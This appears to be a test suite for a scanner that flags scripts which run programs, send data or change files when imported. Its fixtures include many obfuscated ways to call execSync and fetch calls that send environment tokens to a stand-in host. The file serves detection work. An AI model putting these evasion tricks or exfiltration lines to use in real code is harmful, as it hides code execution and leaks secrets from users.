import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { bannerOf } from '#handler/bundle/place.js';
import { reviewScript } from '#handler/review/review-script.js';

const E = 'import { execSync as e } from "node:child_process";\n';
const C = 'const cp = require("child_process");\n';
const HIDDEN = Buffer.from('require("child_process").execSync("id")');
const runs = (name: string): string => `runs ${name} while it is imported`;
const saidOf = async (source: string): Promise<string[]> =>
  (await reviewScript(source)).flatMap(({ kind, message }) => (kind === 'attack' ? [message] : []));

// Each of these was run by Node and started its program.
for (const [what, source, message = runs('execSync')] of [
  ['the default of a module', 'import { default as d } from "child_process";\nd.execSync("id")'],
  ['all of a module under another name', 'import * as n from "child_process";\nconst m = n;\nm.execSync("id")'],
  ['require under another name', 'const [r] = [require];\nr("child_process").execSync("id")'],
  ['the require of the main module', 'process.mainModule.require("child_process").execSync("id")'],
  [
    'the constructor of the module',
    'module.constructor._load("child_process").execSync("id")',
    "reaches for functions through Node's insides",
  ],
  [
    'a require that is made',
    'import m from "module";\nm.createRequire(import.meta.url)("child_process").execSync("id")',
  ],
  [
    'a name of the globals that is put together',
    'globalThis["pro" + "cess"].getBuiltinModule("child_process").execSync("id")',
  ],
  ['Reflect.get', 'Reflect.get(require("child_process"), "exec" + "Sync")("id")'],
  ['Reflect.apply', 'Reflect.apply(require("child_process").execSync, null, ["id"])'],
  ['bind', `${C}const go = cp.execSync.bind(null, "id");\ngo()`],
  ['call', `${C}cp.execSync.call(null, "id")`],
  ['apply of apply', `${C}Function.prototype.apply.call(cp.execSync, null, ["id"])`],
  ['a copy of the module', `${C}const o = { ...cp };\no.execSync("id")`],
  ['an assigned copy', `${C}Object.assign({}, cp).execSync("id")`],
  ['a promisified function', `${C}require("util").promisify(cp.exec)("id")`, runs('exec')],
  ['a static block', `${E}class A { static { e("id") } }`],
  ['a static field', `${E}class A { static x = e("id") }`],
  ['a constructor', `${E}class A { constructor() { e("id") } }\nnew A()`],
  ['a field', `${E}class A { x = e("id") }\nnew A()`],
  [
    'a method that the class above calls',
    `${E}class B { constructor() { this.go() } }\nclass A extends B { go() { e("id") } }\nnew A()`,
  ],
  ['a private method', `${E}class A { #p() { e("id") }\n go() { this.#p() } }\nnew A().go()`],
  ['the name of a method', `${E}class A { [e("id")]() {} }`],
  ['a class without a name', `${E}export default class { static { e("id") } }`],
  ['a getter', `${E}const o = { get x() { return e("id") } };\nconst { x } = o`],
  ['a setter', `${E}const o = { set x(v) { e(v) } };\no.x = "id"`],
  ['a getter that is defined', `${E}const o = {};\nObject.defineProperty(o, "x", { get() { return e("id") } });\no.x`],
  ['a tag', `${E}const t = (s) => e(s[0]);\nt\`id\``],
  ['an iterator', `${E}const o = { *[Symbol.iterator]() { e("id") } };\n[...o]`],
  ['a generator', `${E}function* g() { e("id") }\ng().next()`],
  ['toString', `${E}const o = { toString() { e("id") } };\n"" + o`],
  ['a template', `${E}class O { toString() { e("id") } }\n\`\${new O()}\``],
  ['Symbol.toPrimitive', `${E}const o = { [Symbol.toPrimitive]: () => e("id") };\no * 2`],
  ['toJSON', `${E}JSON.stringify({ toJSON() { e("id") } })`],
  ['then', `${E}await { then(ok) { e("id"); ok() } }`],
  ['a chain of promises', 'import("child_process").then(({ default: d }) => d).then((d) => d.execSync("id"))'],
  ['a new promise', 'new Promise((ok) => ok("child_process")).then((n) => import(n)).then((c) => c.execSync("id"))'],
  ['a promise that fails', `${E}Promise.reject(1).catch(() => e("id"))`],
  ['an asynchronous function', 'const f = async () => (await import("child_process")).execSync;\n(await f())("id")'],
  ['a timer', `${E}setTimeout(() => e("id"), 1)`],
  ['a timer that is given the function', `${E}setImmediate(e, "id")`],
  ['the end of the process', `${E}process.on("exit", () => e("id"))`],
  [
    'an event',
    `${E}import { EventEmitter } from "events";\nconst m = new EventEmitter();\nm.on("x", () => e("id"));\nm.emit("x")`,
  ],
  ['a sorted list', `${E}[1, 2].sort(() => e("id"))`],
  ['a proxy', `${E}new Proxy({}, { get() { e("id") } }).x`],
  ['a map', `${E}new Map([["go", e]]).get("go")("id")`],
  ['a default of a parameter', `${E}const f = (x = e("id")) => x;\nf()`],
  ['a default of a pattern', `${E}const { x = e("id") } = {}`],
  ['a function that is assigned later', `${C}let f;\nfunction go() { f("id") }\nf = cp.execSync;\ngo()`],
  [
    'names that are passed on in a loop',
    `${C}let a, b, d;\nfor (let i = 0; i < 4; i++) { if (d) d("id"); d = b; b = a; a = cp.execSync }`,
  ],
  ['functions that return functions', `${C}const f = (o) => (k) => (x) => o[k](x);\nf(cp)("execSync")("id")`],
  ['a prototype', `${C}function A() {}\nA.prototype.go = function () { cp.execSync("id") };\nnew A().go()`],
  ['a prototype of the language', `${C}Object.prototype.toString = () => cp.execSync("id")`],
  ['what is thrown', `${E}try { throw e } catch (f) { f("id") }`],
  ['arguments', `${C}function f() { arguments[0].execSync("id") }\nf(cp)`],
  ['what is spread', `${C}const f = (c, ...r) => c.execSync(...r);\nf(...[cp, "id"])`],
  ['patterns in patterns', `${C}const { a: [, { b: x }] } = { a: [1, { b: cp.execSync }] };\nx("id")`],
  ['a pattern that is assigned', `let x;\n({ execSync: x } = require("child_process"));\nx("id")`],
  ['a symbol as a key', `${C}const k = Symbol("k");\nconst o = { [k]: cp.execSync };\no[k]("id")`],
  ['a weak reference', `${C}new WeakRef(cp).deref().execSync("id")`],
  ['a loop that waits', `${E}async function* g() { yield e }\nfor await (const f of g()) f("id")`],
  [
    'a class that is derived from nothing else',
    `${E}class A { static [Symbol.hasInstance]() { e("id") } }\n({}) instanceof A`,
  ],
  ['escapes', 'const c = r\\u0065quire("\\x63hild_process");\nc.\\u0065xecSync("id")'],
  ['a line that ends in another way', '// x \u2028 require("child_process").execSync("id")'],
  ['a with statement', 'with (require("child_process")) execSync("id")', 'hides what it calls by a with statement'],
  ['a function that is made', 'new Function("r", "r(\'child_process\').execSync(\'id\')")(require)'],
  ['the constructor of a function', '(() => {}).constructor("r", "r(\'child_process\').execSync(\'id\')")(require)'],
  [
    'the constructor of a method',
    '[].map.constructor("return process")().getBuiltinModule("child_process").execSync("id")',
  ],
  ['a text that is evaluated', "eval(\"require('child_' + 'process').execSync('id')\")"],
  [
    'a text for the virtual machine',
    'globalThis.q = require;\nrequire("vm").runInThisContext("q(\'child_process\').execSync(\'id\')")',
  ],
  [
    'a text that is compiled',
    'new module.constructor("x")._compile("require(\'child_process\').execSync(\'id\')", "x")',
  ],
  [
    'a text for a worker',
    'const { Worker } = require("worker_threads");\nnew Worker("require(\'child_process\').execSync(\'id\')", { eval: true })',
  ],
  [
    'data for a worker',
    `const { Worker } = require("worker_threads");\nconst o = { eval: true };\nnew Worker(Buffer.from("${HIDDEN.toString('base64')}", "base64").toString(), o)`,
    'runs code that is hidden in data',
  ],
  [
    'data through functions',
    `const d = (x) => atob(x);\nconst run = (x) => eval(x);\nrun(d("${HIDDEN.toString('base64')}"))`,
    'runs code that is hidden in data',
  ],
  [
    'numbers',
    `let s = "";\nfor (const c of [${HIDDEN.map((c) => c ^ 7).join(',')}]) s += String.fromCharCode(c ^ 7);\neval(s)`,
    'runs code that is hidden in data',
  ],
  [
    'letters by their numbers',
    `const n = [${[...Buffer.from('child_process')].join(',')}].map((c) => String.fromCharCode(c)).join("");\nrequire(n).execSync("id")`,
    'loads a module whose name is hidden',
  ],
  [
    "Node's own binding",
    'const b = process.binding;\nnew (b("process_wrap").Process)().spawn({ file: "id" })',
    "reaches for functions through Node's insides",
  ],
  ['a process that is made', `${C}new cp.ChildProcess().spawn({ file: "id" })`, runs('spawn')],
  [
    'a file that is called data',
    'require("./weights.bin")',
    'loads a file that is not called a script while it is imported',
  ],
] as const) {
  test(`what starts something while a script is imported is seen: ${what}`, async () => {
    assert.ok((await saidOf(source)).includes(message), (await saidOf(source)).join());
  });
}

for (const [source, message] of [
  ['import fs from "fs";\nfs.writeFileSync("/srv/x", "")', 'fs.writeFileSync'],
  ['const fs = require("fs");\nfs.openSync("/srv/x", "w")', 'fs.openSync'],
  [
    'import { rm } from "node:fs/promises";\nimport { homedir } from "os";\nawait rm(homedir() + "/x")',
    'fs.promises.rm',
  ],
  ['const p = require("path");\nrequire("fs").unlinkSync(p.join(__dirname, "..", "x"))', 'fs.unlinkSync'],
  ['require("f" + "s")["write" + "FileSync"](process.env.HOME + "/x", "")', 'fs.writeFileSync'],
] as const) {
  test(`a file outside the model is changed while a script is imported: ${source}`, async () => {
    assert.equal(await saidOf(source), [`changes files outside the model directory while it is imported: ${message}`]);
  });
}

for (const [source, message] of [
  ['fetch("https://x.org/?" + process.env.TOKEN)', 'sends something while it is imported: fetch'],
  [
    'fetch("https://x.org/", { method: "POST", body: JSON.stringify(process.env) })',
    'sends something while it is imported: fetch',
  ],
  ['require("net").connect(1, "x.org")', 'reaches for the network while it is imported: net.connect'],
  [
    'import https from "https";\nlet s = "";\nhttps.get("https://x.org/", (r) => { r.on("data", (d) => (s += d)); r.on("end", () => eval(s)) })',
    'runs code from elsewhere while it is imported',
  ],
] as const) {
  test(`what reaches out while a script is imported is an attack: ${source}`, async () => {
    assert.equal(await saidOf(source), [message]);
  });
}

test('what scripts do honestly is no attack', async () => {
  for (const source of [
    `${C}exports.version = () => cp.execSync("git rev-parse HEAD")`,
    `${C}cp.execSync("getconf GNU_LIBC_VERSION 2>&1 || true; ldd --version 2>&1 || true")`,
    `${E}if (require.main === module) e("id")`,
    `${E}program.command("x").action(() => e("id"))`,
    'import fs from "fs";\nfs.writeFileSync(new URL("./cache", import.meta.url), "");\nfs.unlinkSync("x")',
    'const root = Function("return this")();\nroot.x = 1',
    'var inquire = eval("quire".replace(/^/, "re"));\ninquire("long")',
    'fetch(new URL("./x.wasm", import.meta.url).href)',
    'fetch("http://localhost:8080/ping")',
    'export const send = () => fetch("https://x.org/", { method: "POST", body: process.env.X })',
    'require("./jquery.min")',
  ])
    assert.equal(await saidOf(source), [], source);
});

test('a program that only tells something of the machine is a risk, unless the script says where it lies', async () => {
  const asks = `${C}cp.execSync("uname -m")`;
  assert.ok(
    (await reviewScript(asks)).some(({ message }) => message === 'asks a program while it is imported: execSync'),
  );
  assert.equal(await saidOf(`process.env.PATH = "."\n${asks}`), [runs('execSync')]);
});

test('what cannot be followed is said', async () => {
  const kinds = async (source: string): Promise<string[]> => (await reviewScript(source)).map(({ kind }) => kind);
  assert.equal(await kinds('var x = 1 <!-- /*\n;eval(x)\n// */'), ['review']);
  assert.ok((await kinds('var x = 1 <!--y().z\n;eval(x)')).includes('unread'));
  assert.ok((await kinds(`${'!'.repeat(2000)}eval(x)`)).includes('unread'));
  assert.not((await kinds(`${'1+'.repeat(2000)}eval(x)`)).includes('unread'));
});

for (const [what, source, message = runs('execSync')] of [
  [
    'all functions of a module, with their names',
    'for (const [k, f] of Object.entries(require("child_process"))) if (k === "execSync") f("id")',
    runs('child_process'),
  ],
  [
    'functions of a list',
    `${C}const all = [];\nall.push(() => 1, () => cp.execSync("id"));\nfor (const one of all) one()`,
  ],
  [
    'a module whose name is made of letters',
    'const a = "abcdefghijklmnopqrstuvwxyz_";\nlet n = "";\nfor (const i of [2, 7, 8, 11, 3, 26, 15]) n += a[i];\nrequire(n).execSync("id")',
  ],
] as const)
  test(`a script that starts a program while it is imported is seen: ${what}`, async () => {
    assert.equal(await saidOf(source), [message]);
  });

test('what our own bundles begin with is no reason to look any further, unless it is used', async () => {
  for (const isCommonJs of [true, false]) {
    const banner = bannerOf(isCommonJs);
    assert.equal(await reviewScript(`${banner}\nlet a: b;`), [], 'it is not even parsed');
    const made = '__createRequire("/a.js")(["child", "process"].join("_")).execSync("id")';
    assert.ok((await saidOf(`${banner}\n${made}`)).includes(runs('execSync')));
    assert.equal(await saidOf(`${banner}\nconst c = require("child_process");\nc.execSync("id")`), [runs('execSync')]);
  }
});

test('what is honest and looks like an attack is none', async () => {
  const kinds = async (source: string): Promise<string[]> => (await reviewScript(source)).map(({ kind }) => kind);
  assert.equal(await kinds('fs.writeFileSync(file, JSON.stringify(result.profile))'), []);
  assert.ok((await kinds('fs.writeFileSync(home + "/.profile", x)')).includes('attack'));
  assert.equal(await kinds('String.fromCodePoint(1.255, 2); global.x = 1'), []);
  // A timer that also takes texts, called with whatever there is.
  const hidden = 'Buffer.from("YQ==", "base64").toString()';
  assert.equal(await kinds(`export const f = (a) => (0, eval)(a ? {} : b ? [] : c ? f : ${hidden});`), ['review']);
  assert.ok((await kinds(`export const f = (a) => (0, eval)(a ? {} : ${hidden});`)).includes('attack'));
  const file = 'a ? {} : b ? [] : c ? () => 1 : "/etc/hosts"';
  const either = (what: string): string => `const f = () => fs.createWriteStream(${what}), g = () => 1;\n(x ? f : g)()`;
  assert.not((await kinds(either(file))).includes('attack'));
  assert.ok((await kinds(either('"/etc/hosts"'))).includes('attack'));
  assert.ok((await kinds(`fs.createWriteStream(${file})`)).includes('attack'));
  assert.ok((await kinds(`(0, eval)(a ? {} : b ? [] : c ? f : ${hidden});`)).includes('attack'));
});

test('classes that are each derived from what may be any of many are gone through once', async () => {
  const attack = 'class { constructor() { cp.execSync("id"); } }';
  const classes = Array.from({ length: 12 }, (_, at) => `class C${at} extends all[x] {}\nall.push(C${at});`);
  assert.equal(await saidOf(`${C}const all = [${attack}];\n${classes.join('\n')}\nnew C11();`), [runs('execSync')]);
});

test('code that parsers stumble over is read as Node reads it', async () => {
  const runs = 'cp.execSync("id")';
  for (const source of [
    `[a.b, c.d] = [${runs}]`,
    `var f = ({ a = {} }) => ${runs};\nf({})`,
    `(async ${'/* x */'.repeat(500)} () => ${runs})()`,
    `({ get ${'/* x */'.repeat(500)} a() { ${runs} } }).a`,
    `var \\u00C0 = () => ${runs};\n\u00C0()`,
    `({ ${'a: 1, '.repeat(5000)} b: ${runs} })`,
    `var o = { a(b) { b.c = () => ${runs}; } };\no.\\u0061(o);\no["\\x63"]()`,
    `export default class { static { ${runs} } }`,
    `import a from "b" with { type: ${'"json"'} };\n${runs}`,
    `x = 1 // \u2028;${runs}`,
    `x = 1 // \r${runs}`,
    `for ([cp.z] of [${runs}]);`,
    `a\n--> ${'b'}\n;${runs}`,
    `{ using a = ${runs} }`,
    `/[/]${'\\'}/]/v.test(${runs})`,
    `return ${runs}`,
  ])
    assert.ok(
      (await saidOf(`${/^(import|export)/m.test(source) ? 'import cp from "child_process"' : C};\n${source}`)).length >
        0,
      source.slice(0, 80),
    );
});

test('what is not JavaScript is looked through for words, unless Node takes it', async () => {
  const said = async (source: string): Promise<string[]> =>
    (await reviewScript(`${C}${source}`)).map(
      ({ kind, message, line, column }) => `${kind} ${message} ${line}:${column}`,
    );
  const words = 'shell uses other programs: child_process 1:20';
  for (const [source, place] of [
    ['let a: string = cp.execSync("id")', '2:6'],
    ['const a = <b>{cp.execSync("id")}</b>', '2:11'],
    ['import b from "b";\n@c class A {}', '3:1'],
    ['{', '2:2'],
  ] as const)
    assert.equal(
      await said(source),
      [`review is not JavaScript that Node runs, so that only words were looked for ${place}`, words],
      source,
    );
  const inText = async (text: string): Promise<string[]> =>
    (await reviewScript(`(0, eval)(${JSON.stringify(text)})`)).map(({ kind }) => kind);
  assert.ok((await inText('globalThis.x() = 1')).includes('unread'));
  assert.not((await inText('let a: b')).includes('unread'));
  assert.equal(await said('cp.execSync("id") = 1'), [
    'unread cannot be reviewed: it has syntax that is not known here 2:1',
    words,
  ]);
});

test.run();
